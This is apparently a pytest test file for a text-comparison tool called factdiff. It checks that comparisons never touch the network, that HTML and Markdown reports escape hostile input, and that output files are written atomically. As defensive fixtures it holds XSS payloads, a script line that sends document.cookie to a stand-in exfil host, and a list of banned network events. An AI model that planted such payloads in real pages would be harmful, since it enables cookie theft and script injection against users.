"""Safety: no network anywhere, everything from the inputs escaped, outputs written atomically.

* No socket is ever opened during a compare (in-process, with the socket API patched
  to fail loudly, and in a subprocess whose audit hook kills it on any network event),
  not even for HTML that references external scripts, images and stylesheets.
* The HTML and Markdown renderers escape every piece of input text: no tag, event
  handler or ``javascript:`` URL from a copy survives, and Markdown tables keep
  their columns whatever the copy contains.
* ``-o`` writes the named file only, through a temporary file in the same directory.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from factdiff import compare
from factdiff.report.render import render

ROOT = Path(__file__).resolve().parents[1]

ORIGINAL = (
    "Officials in Riverton said on Tuesday that 42 people were injured when a bridge collapsed.\n\n"
    "Mayor Helen Prescott told reporters the city would spend $3.5 million on repairs.\n\n"
    "The bridge, built in 1962, carried about 12,000 vehicles a day, according to the transport department.\n"
)

HOSTILE_BITS = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "<iframe src=javascript:alert(3)></iframe>",
    "[click](javascript:alert(4))",
    "| col | col |",
    "`code` and ``` fence",
    "**bold** _em_ ~~gone~~",
    "&lt;already-escaped&gt; &amp; &#60;b&#62;",
    "</td></tr></table><!--",
    "{{template}} ${injection}",
]
# Every hostile bit in a changed sentence, so it is quoted in findings and in the text views.
HOSTILE_COPY = (
    ORIGINAL.replace("42 people", "24 people " + " ".join(HOSTILE_BITS[:4]))
    .replace("Prescott", "Prescot " + " ".join(HOSTILE_BITS[4:8]))
    .replace("about 12,000", "about 21,000 " + " ".join(HOSTILE_BITS[8:]))
)
HOSTILE_NAME = "<script>alert('name')</script>|`x`.txt"


class NetworkUsed(BaseException):
    """BaseException, so no ``except Exception`` in the code under test can swallow it."""


# --------------------------------------------------------------------------- no network


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Make every way of reaching the network raise, and record the attempts."""
    attempts: list[str] = []

    def deny(name: str):
        def _deny(*args, **kwargs):
            attempts.append(f"{name}{args[1:2]}")
            raise NetworkUsed(name)

        return _deny

    monkeypatch.setattr(socket.socket, "connect", deny("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", deny("socket.connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", deny("socket.sendto"))
    monkeypatch.setattr(socket, "create_connection", deny("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", deny("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", deny("gethostbyname"))
    return attempts


def _page(body: str) -> str:
    paragraphs = "".join(f"<p>{p}</p>\n" for p in body.strip().split("\n\n"))
    return (
        "<!DOCTYPE html><html><head>"
        '<script src="http://tracker.invalid/t.js"></script>'
        '<link rel="stylesheet" href="https://cdn.invalid/site.css">'
        '<meta http-equiv="refresh" content="0; url=http://redirect.invalid/">'
        "<style>@import url('http://fonts.invalid/f.css');</style>"
        "<script>fetch('http://exfil.invalid/?c=' + document.cookie)</script>"
        "</head><body><article>"
        f"{paragraphs}"
        '<img src="http://cdn.invalid/bridge.jpg" srcset="http://cdn.invalid/2x.jpg 2x">'
        '<iframe src="https://video.invalid/embed/1"></iframe>'
        '<object data="http://cdn.invalid/x.swf"></object>'
        "</article></body></html>"
    )


def test_compare_text_opens_no_socket(no_network: list[str]) -> None:
    report = compare(ORIGINAL, ORIGINAL.replace("42", "24"))
    assert report.findings
    assert no_network == []


def test_compare_html_with_external_resources_opens_no_socket(no_network: list[str]) -> None:
    report = compare(ORIGINAL, _page(ORIGINAL.replace("42", "24")), copy_name="copy.html")
    assert report.copy.source_format == "html"
    assert [f.kind for f in report.findings if f.kind == "number_changed"] == ["number_changed"]
    for fmt in ("html", "markdown", "text", "json", "terminal"):
        render(report, fmt)
    assert no_network == []


def test_the_fixture_really_blocks(no_network: list[str]) -> None:
    """Guard against a fixture that blocks nothing (the tests above would pass vacuously)."""
    with pytest.raises(NetworkUsed):
        socket.create_connection(("127.0.0.1", 9))
    with pytest.raises(NetworkUsed):
        socket.getaddrinfo("localhost", 80)
    assert len(no_network) == 2


_AUDIT = r"""
import os, sys
BANNED = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
          "socket.sendto", "socket.sendmsg", "socket.bind", "urllib.Request", "webbrowser.open",
          "http.client.connect", "ftplib.connect", "smtplib.connect")
LOOPBACK = ("127.0.0.1", "::1", "localhost")
def hook(event, args):
    # ``import spacy`` imports requests/urllib3, whose IPv6 probe binds ::1 port 0: local, no traffic.
    if event == "socket.bind" and isinstance(args[1], tuple) and args[1][0] in LOOPBACK:
        return
    if event in BANNED:
        os.write(2, ("NETWORK: %s %r\n" % (event, args[1:2] if len(args) > 1 else args)).encode())
        os._exit(99)
sys.addaudithook(hook)
if sys.argv[1] == "selftest":
    import socket
    socket.getaddrinfo("localhost", 80)
sys.argv = ["factdiff", *sys.argv[1:]]
from factdiff.cli import main
main()
"""


def _audited(args: list[str], cwd: Path) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-c", _AUDIT, *args], cwd=cwd, env=env, capture_output=True,
                          timeout=300)


def test_audit_hook_catches_network_use(tmp_path: Path) -> None:
    proc = _audited(["selftest"], tmp_path)
    assert proc.returncode == 99
    assert b"NETWORK: socket.getaddrinfo" in proc.stderr


def test_cli_opens_no_socket_subprocess(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(ORIGINAL, encoding="utf-8")
    (tmp_path / "b.html").write_text(_page(ORIGINAL.replace("42", "24")), encoding="utf-8")
    (tmp_path / "c.md").write_text(
        "# Bridge\n\n![photo](http://cdn.invalid/p.jpg)\n\n" + ORIGINAL.replace("1962", "1926")
        + "\n[source](https://example.invalid/story)\n", encoding="utf-8")
    for copy, fmt in (("b.html", "html"), ("c.md", "json"), ("b.html", "markdown")):
        proc = _audited(["compare", "a.txt", copy, "--format", fmt, "-o", f"out.{fmt}"], tmp_path)
        assert b"NETWORK" not in proc.stderr, proc.stderr.decode()
        assert proc.returncode == 0, proc.stderr.decode()
        assert (tmp_path / f"out.{fmt}").stat().st_size > 0


# --------------------------------------------------------------------------- escaping: HTML


class _Tags(HTMLParser):
    """Every element with its attributes, and the text inside <script>/<style>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self._in: str | None = None
        self.text: list[str] = []  # visible text, entities decoded

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in self.raw:
            self._in = tag

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in:
            self.raw[self._in].append(data)
        else:
            self.text.append(data)


def _tags(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


@pytest.fixture(scope="module")
def hostile_report():
    report = compare(ORIGINAL, HOSTILE_COPY, copy_name=HOSTILE_NAME)
    assert report.findings  # the hostile sentences are quoted in findings
    return report


# The element names the HTML renderer's own source writes.
_RENDERER_TAGS = set(re.findall(r"<([a-z][a-z0-9]*)\b", (ROOT / "factdiff" / "report" / "html.py").read_text()))


def _defused(text: str) -> str:
    """The hostile copy with every hostile bit replaced by plain words: same report structure."""
    for bit in HOSTILE_BITS:
        text = text.replace(bit, "plain words here")
    return text


@pytest.fixture(scope="module")
def benign_html() -> _Tags:
    return _tags(render(compare(ORIGINAL, _defused(HOSTILE_COPY), copy_name="copy.txt"), "html"))


def test_html_report_has_no_tag_from_the_input(hostile_report, benign_html: _Tags) -> None:
    html = render(hostile_report, "html")
    parsed = _tags(html)
    kinds = {t for t, _ in parsed.tags}
    assert not kinds & {"img", "svg", "iframe", "object", "embed", "form", "base", "math", "video"}
    assert kinds <= _RENDERER_TAGS  # only elements the renderer itself writes
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, name, value)
    # Scripts and styles are the renderer's own: same count and the same code as a benign report.
    assert [t for t, _ in parsed.tags].count("script") == [t for t, _ in benign_html.tags].count("script")
    assert parsed.raw["script"] == benign_html.raw["script"]
    assert not any("alert" in s for s in parsed.raw["script"] + parsed.raw["style"])
    # And the hostile text is there, visibly, as text.
    visible = "".join(parsed.text)
    for bit in ("<script>alert('xss')</script>", "<img src=x onerror=alert(1", HOSTILE_NAME):
        assert bit in visible


def test_html_report_loads_nothing_external(hostile_report) -> None:
    parsed = _tags(render(hostile_report, "html"))
    for tag, attrs in parsed.tags:
        for name in ("src", "href", "srcset", "data", "action", "poster"):
            value = (attrs.get(name) or "").strip()
            assert not re.match(r"(?i)(?:[a-z][a-z0-9+.-]*:|//)", value) or value.startswith(("data:", "#")), (
                tag, name, value)


def test_html_report_of_an_html_copy_shows_no_page_markup(benign_html: _Tags) -> None:
    report = compare(ORIGINAL, _page(ORIGINAL.replace("42", "24")), copy_name="copy.html")
    parsed = _tags(render(report, "html"))
    assert {t for t, _ in parsed.tags} <= _RENDERER_TAGS
    assert parsed.raw["script"] == benign_html.raw["script"]


# --------------------------------------------------------------------------- escaping: Markdown

_UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")
_RAW_TAG = re.compile(r"(?<!\\)<(?:[A-Za-z/!?])")


def _table_rows(markdown: str) -> list[list[str]]:
    """Tables as lists of lines: consecutive lines starting with '|'."""
    tables, current = [], []
    for line in markdown.splitlines():
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    if current:
        tables.append(current)
    return tables


@pytest.mark.parametrize("show_all", [False, True])
def test_markdown_tables_keep_their_columns(hostile_report, show_all: bool) -> None:
    from factdiff.report.render import RenderOptions

    md = render(hostile_report, "markdown", RenderOptions(show_all=show_all))
    tables = _table_rows(md)
    assert tables, "the report should have a findings table"
    for table in tables:
        columns = len(_UNESCAPED_PIPE.findall(table[0]))
        for line in table:
            assert len(_UNESCAPED_PIPE.findall(line)) == columns, line


def test_markdown_has_no_raw_html_or_links_from_the_input(hostile_report) -> None:
    md = render(hostile_report, "markdown")
    benign = render(compare(ORIGINAL, _defused(HOSTILE_COPY), copy_name="copy.txt"), "markdown")
    assert set(_RAW_TAG.findall(md)) <= set(_RAW_TAG.findall(benign))
    assert not re.search(r"(?<!\\)\]\(javascript:", md)  # "\[click\](javascript:" is escaped text
    # The text survives in escaped form, so a reader still sees what the copy says.
    assert r"\<iframe src=javascript:alert(3)\>\</iframe\>" in md
    assert r"\<script\>alert('name')\</script\>\|\`x\`.txt" in md


def test_markdown_escapes_the_document_name(hostile_report) -> None:
    md = render(hostile_report, "markdown")
    first = md.splitlines()[0]
    assert "<script>" not in first and "`x`" not in first.replace(r"\`", "")


def test_text_and_json_keep_the_input_verbatim(hostile_report) -> None:
    """Plain formats are not escaped: they quote the copy exactly (spans stay checkable)."""
    data = json.loads(render(hostile_report, "json"))
    assert data["copy"]["text"] == HOSTILE_COPY
    assert data["copy"]["name"] == HOSTILE_NAME


# --------------------------------------------------------------------------- atomic outputs


def _cli(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "factdiff", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)


def test_output_goes_through_a_temporary_file_in_the_same_directory(tmp_path: Path) -> None:
    """Trace the file system calls: a temp file next to the target, then os.replace onto it."""
    (tmp_path / "a.txt").write_text(ORIGINAL, encoding="utf-8")
    (tmp_path / "b.txt").write_text(ORIGINAL.replace("42", "24"), encoding="utf-8")
    (tmp_path / "out").mkdir()
    trace = r"""
import os, sys
events = []
def hook(event, args):
    if event in ("open", "os.rename", "os.replace", "os.remove", "os.unlink") and args and isinstance(args[0], (str, bytes, os.PathLike)):
        path = os.fsdecode(args[0])
        if event != "open" or (len(args) > 2 and isinstance(args[2], int) and args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)) or (len(args) > 1 and isinstance(args[1], str) and any(c in args[1] for c in "wax+")):
            events.append((event, path, os.fsdecode(args[1]) if event in ("os.rename", "os.replace") else None))
sys.addaudithook(hook)
sys.argv = ["factdiff", "compare", "a.txt", "b.txt", "--format", "json", "-o", "out/report.json"]
from factdiff.cli import main
try:
    main()
finally:
    import json as _j
    sys.stderr.write("EVENTS " + _j.dumps(events) + "\n")
"""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-c", trace], cwd=tmp_path, env=env, capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 0, proc.stderr
    line = next(x for x in proc.stderr.splitlines() if x.startswith("EVENTS "))
    events = json.loads(line.removeprefix("EVENTS "))
    writes = [(e, os.path.relpath(os.path.join(tmp_path, p), tmp_path), d) for e, p, d in events
              if os.path.realpath(os.path.join(tmp_path, p)).startswith(os.path.realpath(tmp_path))]
    replaced = [w for w in writes if w[0] in ("os.rename", "os.replace")]  # os.replace audits as os.rename
    assert len(replaced) == 1
    temp, target = replaced[0][1], os.path.relpath(os.path.join(tmp_path, replaced[0][2]), tmp_path)
    assert target == os.path.join("out", "report.json")
    assert os.path.dirname(temp) == "out" and temp != target  # same directory: same file system
    assert {p for _, p, _ in writes} <= {temp, target}  # nothing else under the working directory
    assert sorted(os.listdir(tmp_path / "out")) == ["report.json"]  # the temp file is gone


def test_failed_run_leaves_no_output_and_no_temp_file(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(ORIGINAL, encoding="utf-8")
    proc = _cli(["compare", "a.txt", "missing.txt", "-o", "report.html", "--format", "html"], tmp_path)
    assert proc.returncode == 2
    assert sorted(os.listdir(tmp_path)) == ["a.txt"]


def test_output_path_is_taken_literally(tmp_path: Path) -> None:
    """No expansion of ~, $VARS or globs: the file written is the one named."""
    (tmp_path / "a.txt").write_text(ORIGINAL, encoding="utf-8")
    (tmp_path / "b.txt").write_text(ORIGINAL.replace("42", "24"), encoding="utf-8")
    name = "$HOME~*report?.json"
    proc = _cli(["compare", "a.txt", "b.txt", "--format", "json", "-o", name], tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert sorted(os.listdir(tmp_path)) == sorted(["a.txt", "b.txt", name]), (os.listdir(tmp_path), proc.stderr)
